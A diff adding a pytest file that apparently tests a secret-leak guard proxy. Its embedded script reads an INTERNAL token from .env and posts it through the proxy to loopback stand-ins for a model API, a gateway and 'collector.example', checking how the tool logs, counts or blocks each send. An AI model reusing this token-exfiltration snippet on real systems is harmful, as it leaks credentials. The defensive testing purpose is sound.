@@ -1,0 +1,98 @@
+"""Who received it: a whole session, with names from outside played by a TLS server on loopback."""
+
+from __future__ import annotations
+
+import json
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from harness.guarded import Event, Guarded, of_kind
+from harness.planted import Planted
+from proxy_support.servers import LoopbackServer, http1
+from proxy_support.session import World
+
+pytestmark = pytest.mark.slow
+
+MODEL = "api.anthropic.com"
+GATEWAY = "llm.corp-gateway.example"
+OTHER = "collector.example"
+POST = """
+import os, ssl, sys, http.client
+url, times = sys.argv[1], int(sys.argv[2])
+token = next(line for line in open('.env') if line.startswith('INTERNAL')).split('=')[1].strip()
+proxy = os.environ['HTTPS_PROXY'].rpartition('/')[2]
+link = http.client.HTTPSConnection(proxy, context=ssl.create_default_context())
+link.set_tunnel(url)
+for number in range(times):
+    link.request('POST', '/v1/messages', '{"turn": %d, "content": "it says %s"}' % (number, token))
+    print(link.getresponse().read().decode().strip()[:2], end='')
+"""
+
+
+@dataclass
+class Outside:
+    """The world beyond this machine."""
+
+    server: LoopbackServer
+    options: tuple[str, ...]
+
+    def run(self, guarded: Guarded, *argv: str) -> list[Event]:
+        done = guarded.run(*argv, options=("--quiet", *self.options))
+        assert done.returncode == 0, done.stderr
+        return guarded.events()
+
+    def post(self, guarded: Guarded, host: str, times: int = 1) -> list[Event]:
+        return self.run(guarded, sys.executable, "-c", POST, host, str(times))
+
+
+@pytest.fixture
+def outside(tmp_path: Path) -> Iterator[Outside]:
+    world = World(tmp_path)
+    with LoopbackServer(http1, world.tls((MODEL, GATEWAY, OTHER))) as server:
+        names = [f"--resolve={name}=127.0.0.1:{server.port}" for name in (MODEL, GATEWAY, OTHER)]
+        yield Outside(server, (*names, f"--upstream-ca={world.ca}"))
+
+
+def sends(events: list[Event]) -> list[Event]:
+    return [event for event in events if event["activity"] == "send"]
+
+
+def test_a_secret_in_two_hundred_model_requests_is_one_exposure(
+    guarded: Guarded, planted: Planted, outside: Outside
+) -> None:
+    events = outside.post(guarded, MODEL, 200)
+    assert len(outside.server.log.requests) == 200
+    (exposure,) = sends(events)
+    assert (exposure["outcome"], exposure["destination"]) == ("exposed", "model")
+    repeats = [event for event in events if event["activity"] == "repeat"]
+    assert {event["repeats"] for event in repeats} == {exposure["uid"]}
+    assert sum(event["count"] for event in (exposure, *repeats)) == 200
+    (session,) = guarded.sessions()
+    assert session["outcome"] == "exposed"
+    assert (session["counts"]["sends"], session["counts"]["flows"]) == (1, 1)
+    assert len(events) < 20, "the record is not flooded"
+    report = json.loads(guarded.verb("report", "--format", "json").stdout)
+    assert [flow["count"] for flow in report["flows"]] == [200]
+    assert "×200" in guarded.verb("report", "--format", "md").stdout
+    assert guarded.verb("verify").returncode == 0
+
+
+def test_refused_requests_are_one_event_too(guarded: Guarded, planted: Planted, outside: Outside) -> None:
+    guarded.home.mkdir(mode=0o700)
+    (guarded.home / "policy.yaml").write_text("version: 1\nextends: strict\n")
+    again = POST + "    link.close()\n"
+    events = outside.run(guarded, sys.executable, "-c", again, MODEL, "30")
+    assert not outside.server.log.requests
+    (refused,) = sends(events)
+    assert refused["disposition"] == "blocked"
+    assert sum(event["count"] for event in events if event["repeats"] == refused["uid"]) == 29
+    assert guarded.sessions()[0]["counts"]["blocked"] == 1
+
+
+def test_anyone_else_is_a_leak(guarded: Guarded, planted: Planted, outside: Outside) -> None:
+    (sent,) = sends(outside.post(guarded, OTHER))
+    assert (sent["outcome"], sent["rule"]) == ("leaked", "policies/default.yaml:leak-to-unknown-host")
+    assert not of_kind(guarded.events(), "gap")
